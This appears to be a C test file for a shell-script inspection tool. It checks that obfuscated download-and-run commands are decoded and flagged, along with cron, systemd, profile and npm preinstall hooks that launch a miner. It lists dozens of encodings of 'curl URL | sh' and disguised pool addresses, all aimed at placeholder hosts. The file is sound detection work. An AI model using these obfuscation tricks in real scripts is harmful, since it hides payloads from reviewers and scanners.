// SPDX-License-Identifier: Apache-2.0
/*
 * Commands that are folded up, made here from one harmless line: the host is a documentation address, and nothing is ever run. Each
 * must give the facts that the plain line gives, and say how it was folded.
 */
#include <time.h>

#include "base/cleanup.h"
#include "base/strbuf.h"
#include "inspect/script_value.h"
#include "inspect/test-facts.h"

static void look(const char *content)
{
    static const char *const only[] = {"script", "unwrap", NULL};
    _cleanup_(strbuf_done) struct strbuf b = {};
    strbuf_adds(&b, "#!/bin/bash\n");
    strbuf_adds(&b, content);
    look_with(&(struct inspect_options){.only = only}, "/home/u/imitation.sh", strbuf_str(&b), &facts);
}

#define URL "http://192.0.2.1/i"

TEST(folded_commands_are_seen_plain)
{
    /* how it was folded, and the script; every one of them is: curl URL | sh */
    static const char *const CASES[][2] = {
        {"escapes", "$'\\x63\\x75\\x72\\x6c' " URL " | sh\n"},
        {"escapes", "$'\\143\\165\\162\\154' " URL " | sh\n"},
        {"escapes", "$'\\u0063\\u0075\\u0072l' " URL " | sh\n"},
        {"escapes", "$(printf '\\x63\\x75\\x72\\x6c') " URL " | sh\n"},
        {"escapes", "$(printf '\\143%s' url) " URL " | sh; eval \"$(printf '\\x63\\x75\\x72\\x6c') " URL " | sh\"\n"},
        {"escapes", "printf '\\x63\\x75\\x72\\x6c " URL " | sh' | sh\n"},
        {"escapes", "echo -e '\\x63\\x75\\x72\\x6c " URL " | sh' | bash\n"},
        {"escapes", "bash -c \"$(echo -ne '\\143\\165\\162\\154') " URL " | sh\"\n"},
        {"escapes", "eval $'\\x63\\x75\\x72\\x6c " URL " | sh'\n"},
        {"pieces", "v=lcurxz; ${v:1:1}${v:2:1}${v:3:1}${v:0:1} " URL " | sh\n"},
        {"pieces", "a=cu b=rl; $a$b " URL " | sh\n"},
        {"pieces", "a=cu; a+=rl; x=$a; ${x:0:2}${x:2} " URL " | sh\n"},
        {"pieces", "p=(l u c r); ${p[2]}${p[1]}${p[3]}${p[0]} " URL " | sh\n"},
        {"pieces", "v=cXuXrXl; ${v//X/}'' " URL " | s'h'\n"},
        {"pieces", "c''url " URL " | sh\n"},
        {"pieces", "c\\url " URL " | sh\n"},
        {"pieces", "cu$@rl " URL " | sh\n"},
        {"pieces", "w=c\"u\"r; ${w}l " URL " | sh\n"},
        {"base64", "$(echo Y3VybA== | base64 -d) " URL " | sh\n"},
        {"base64", "X=$(base64 -d <<< Y3VybA==); $X " URL " | sh\n"},
        {"base64", "echo Y3VybCBodHRwOi8vMTkyLjAuMi4xL2kgfCBzaA== | openssl base64 -d -A | sh\n"},
        {"base64", "bash <(echo Y3VybCBodHRwOi8vMTkyLjAuMi4xL2kgfCBzaA== | base64 -d 2>/dev/null)\n"},
        {"base64", "source <(base64 --decode <<<Y3VybCBodHRwOi8vMTkyLjAuMi4xL2kgfCBzaA==)\n"},
        {"base64", "base64 -d <<EOF | bash\nY3VybCBodHRwOi8vMTkyLjAuMi4xL2kgfCBzaA==\nEOF\n"},
        {"base32", "$(echo MN2XE3A= | base32 -d) " URL " | sh\n"},
        {"rev", "$(echo lruc | rev) " URL " | sh\n"},
        {"rev", "rev <<< 'hs | i/1.2.0.291//:ptth lruc' | sh\n"},
        {"rev>base64", "eval \"$(echo ==AazBCfgk2Lx4iMuAjLykTMv8iOwRHdoBCbyV3Y | rev | base64 -d)\"\n"},
        {"tr", "$(echo phey | tr 'A-Za-z' 'N-ZA-Mn-za-m') " URL " | sh\n"},
        {"tr", "echo 'phey uggc://192.0.2.1/v | fu' | tr '[a-z]' '[n-za-m]' | sh\n"},
        {"hex", "$(echo 6375726c | xxd -r -p) " URL " | sh\n"},
        {"hex", "echo 6375726c20687474703a2f2f3139322e302e322e312f69207c207368 | xxd -p -r | bash\n"},
    };
    for (size_t i = 0; i < ARRAY_SIZE(CASES); i++) {
        look(CASES[i][1]);
        if (!facts_list(&facts, F_UNWRAP_CHAINS, CASES[i][0]))
            test_fail(__FILE__, __LINE__, "%s in place of %s: %s", list(F_UNWRAP_CHAINS), CASES[i][0], CASES[i][1]);
        if (!flag(F_SCRIPT_DECODE_RUN) || !flag(F_SCRIPT_DOWNLOAD_RUN))
            test_fail(__FILE__, __LINE__, "not run: %s", CASES[i][1]);
        if (!facts_list(&facts, F_SCRIPT_COMMANDS, "curl"))
            test_fail(__FILE__, __LINE__, "no curl in %s: %s", list(F_SCRIPT_COMMANDS), CASES[i][1]);
        if (!strstr(list(F_SCRIPT_DOWNLOADS), "http://192.0.2.1/"))
            test_fail(__FILE__, __LINE__, "no address: %s", CASES[i][1]);
    }
}

/* What is folded up in the lines of cron, units and hooks goes to all analyzers, as in scripts. */
TEST(folded_commands_that_start_by_themselves)
{
    static const char *const only[] = {"script", "persist", "strings", "package", "unwrap", NULL};
    static const char *const CASES[][2] = {
        {"/etc/cron.d/x", "* * * * * root sh -c \"$(echo '3333:tset.loop//:pct+mutarts o- x/' | rev)\"\n"},
        {"/etc/cron.d/x", "* * * * * root /x -o $(echo '3333:tset.loop//:pct+mutarts' | rev)\n"},
        {"/etc/systemd/system/x.service", "[Service]\nExecStart=/bin/sh -c \"$(echo fgenghz+gpc://cbby.grfg:3333 | tr a-z n-za-m)\"\n"},
        {"/etc/profile.d/x.sh", "P=$(echo '3333:tset.loop//:pct+mutarts' | rev)\n/x -o \"$P\"\n"},
        {"/x", "#!/bin/sh\nP=$(echo '3333:tset.loop//:pct+mutarts' | rev)\nnohup /x -o \"$P\" &\n"},
        {"/a/package.json", "{\"name\":\"x\",\"version\":\"1\",\"scripts\":{\"preinstall\":\"/x -o $(echo 3333:tset.loop//:pct+mutarts | rev)\"}}"},
    };
    for (size_t i = 0; i < ARRAY_SIZE(CASES); i++) {
        look_with(&(struct inspect_options){.only = only}, CASES[i][0], str_from(CASES[i][1]), &facts);
        if (!facts_list(&facts, F_MINER_POOLS, "pool.test:3333"))
            test_fail(__FILE__, __LINE__, "pools %s (%s): %s", list(F_MINER_POOLS), list(F_UNWRAP_CHAINS), CASES[i][1]);
    }
}

TEST(what_looks_like_it_stays_plain)
{
    static const char *const CASES[] = {
        "\\rm -f /tmp/x; \"curl\" -s " URL " -o x; 'wget' -q " URL "\n",
        "echo -e '\\x1b[31mred\\x1b[0m' | cat; printf '\\033[1m%s\\033[0m\\n' \"$x\"\n",
        "PS1=$'\\e[32m\\\\u\\e[0m'; RED=$'\\033[31m'; echo \"${RED}text\"\n",
        "BIN=/usr/bin; $BIN/curl " URL " -o x; PY=python; ${PY}3 x.py; CROSS=arm-; ${CROSS}gcc x.c\n",
        "DIR=/opt/a; \"$DIR\"/sh x; a=tar; b=zxf; $a $b x.tgz\n",
        "V=1.2.3; echo ${V:0:1}.${V:2:1}; major=${V%%.*}; eval \"x_$major=${V:0:1}\"\n",
        "name=$(echo \"$1\" | rev | cut -d/ -f1 | rev); $name --help\n",
        "eval $(echo \"A=1 B=2\" | tr ' ' '\\n')\n",
        "echo Abc | tr A-Z a-z | sh -s\n",
        "echo 'a b' | tr -d ' ' > out; KEY=$(echo Zm9v | base64 -d); echo \"$KEY\" > key\n",
        "X=$(echo Y3VybA== | base64 -d)\n",
        "printf '%s\\n' 'echo plain' | sh\n",
        "cat <<EOF | sh\necho plain\nEOF\n",
        "printf '\\x41BC' | xxd -p; printf '\\101\\102\\103' > abc\n",
        "echo 68656c6c6f | xxd -r -p > hello\n",
        "echo \"it's $x\"'s'\" own\"; su -c 'echo '\"$x\"' text'\n",
    };
    for (size_t i = 0; i < ARRAY_SIZE(CASES); i++) {
        look(CASES[i]);
        /* What existed before: words that decode make their substitutions run "decoded" text, with no layer to it. */
        if (facts_has(&facts, F_UNWRAP_CHAINS))
            test_fail(__FILE__, __LINE__, "%s in: %s", list(F_UNWRAP_CHAINS), CASES[i]);
    }
}

/* What the word behind "systemctl stop" comes out as. */
TEST(words_as_a_shell_makes_them)
{
    static const char *const CASES[][2] = {
        {"$(printf '%s%s' da vy)", "(davy)"},
        {"$(printf 'd%sy' av)", "(davy)"},
        {"$(printf '%c%c' day very)", "(dv)"},
        {"$(printf '%05d-%x-%o' 42 255 8)", "(00042-ff-10)"},
        {"$(printf '%b' 'da\\x76y')", "(davy)"},
        {"$(printf '%d' \\'a)", "(97)"},
        {"$(printf \"\\\\x$(printf %x 100)avy\")", "(davy)"},
        {"$(printf '%s-' a b c)", "(a-b-c-)"},
        {"$(printf '50%%')", "(50%)"},
        {"$(printf '%q' a)", "($(…))"},
        {"$(echo xdavyx | cut -c2-5)", "(davy)"},
        {"$(echo d_a_v_y | tr -d _)", "(davy)"},
        {"$(echo DAVY | tr '[:upper:]' '[:lower:]')", "(davy)"},
        {"$(echo davy | tr a-y b-z)", "(ebwz)"},
        {"$(echo ZGF2eQ== | base64 -d)", "(davy)"},
        {"$(echo davy > /tmp/x)", "($(…))"},
        {"$(cat /etc/hostname | rev)", "($(…))"},
        {"$(echo $HOSTNAME | rev)", "($(…))"},
        {"$(echo '!!' | base64 -d)", "($(…))"},
    };
    for (size_t i = 0; i < ARRAY_SIZE(CASES); i++) {
        char line[256];
        (void)snprintf(line, sizeof(line), "x=%s\nsystemctl stop \"a$x\"\n", CASES[i][0]);
        look(line);
        const char *got = list(F_SCRIPT_STOPS);
        bool known = !strstr(CASES[i][1], "…");
        char want[64];
        (void)snprintf(want, sizeof(want), "(a%s", known ? CASES[i][1] + 1 : "$x)");
        if (strcmp(got, want))
            test_fail(__FILE__, __LINE__, "%s in place of %s: %s", got, want, CASES[i][0]);
    }
}

TEST(a_part_of_a_value)
{
    static const struct {
        const char *text, *operation, *want; /* NULL: it is not known */
        bool is_list;
    } CASES[] = {
        {"abcdef", ":2", "cdef", false},     {"abcdef", ":2:3", "cde", false},  {"abcdef", ": -2", "ef", false},
        {"abcdef", ":1:-2", "bcd", false},   {"abcdef", ":7", NULL, false},     {"abcdef", ":$i:1", NULL, false},
        {"abcdef", ":4:99", "ef", false},    {"abab", "/a/x", "xbab", false},   {"abab", "//a/x", "xbxb", false},
        {"abab", "//b", "aa", false},        {"abab", "//?/x", NULL, false},    {"abab", "//$x/y", NULL, false},
        {"a.tar", "%.tar", "a", false},      {"a.tar", "#a.", "tar", false},    {"a.tar", "%%.*", NULL, false},
        {"aB", "^^", "AB", false},           {"aB", ",,", "ab", false},         {"a b c", "[1]", "b", true},
        {"a b c", "[3]", NULL, true},        {"a b c", "[@]", NULL, true},      {"abc", "@Q", NULL, false},
        {"abc", "//", NULL, false},          {"abc", ":99999999999999999999", NULL, false},
    };
    for (size_t i = 0; i < ARRAY_SIZE(CASES); i++) {
        _cleanup_(strbuf_done) struct strbuf b = {};
        bool known = sh_value(str_from(CASES[i].text), str_from(CASES[i].operation), CASES[i].is_list, &b);
        CHECK(known == (CASES[i].want != NULL));
        CHECK_STR(strbuf_str(&b), CASES[i].want ? CASES[i].want : "");
    }
}

TEST(hostile_text_is_bounded)
{
    static const char *const UNITS[] = {
        "$(echo a|rev)", "A=$(echo $A$A|rev);", "A+=$A;", "${A//x/xxxxxxxx}", "echo $A|tr a-z n-za-m|", "printf '%64d%64d%64d' 1 2 3|rev|sh\n",
        "A=${A//x/xx};", "$(printf '%s%s%s%s%s' $A $A $A)", "cat <<E|rev|sh\nx\nE\n", "A=$(base64 -d<<<$A);", "$'\\x63'", "c''"};
    _cleanup_(strbuf_done) struct strbuf b = {};
    for (size_t i = 0; i < ARRAY_SIZE(UNITS); i++) {
        strbuf_clear(&b);
        strbuf_adds(&b, "A=xxxxxxxxxxxxxxxx\n");
        while (b.n < 200000)
            strbuf_adds(&b, UNITS[i]);
        clock_t before = clock();
        look(b.p);
        if (clock() - before >= 2 * CLOCKS_PER_SEC)
            test_fail(__FILE__, __LINE__, "%ld ms: %s", (long)((clock() - before) * 1000 / CLOCKS_PER_SEC), UNITS[i]);
    }
}
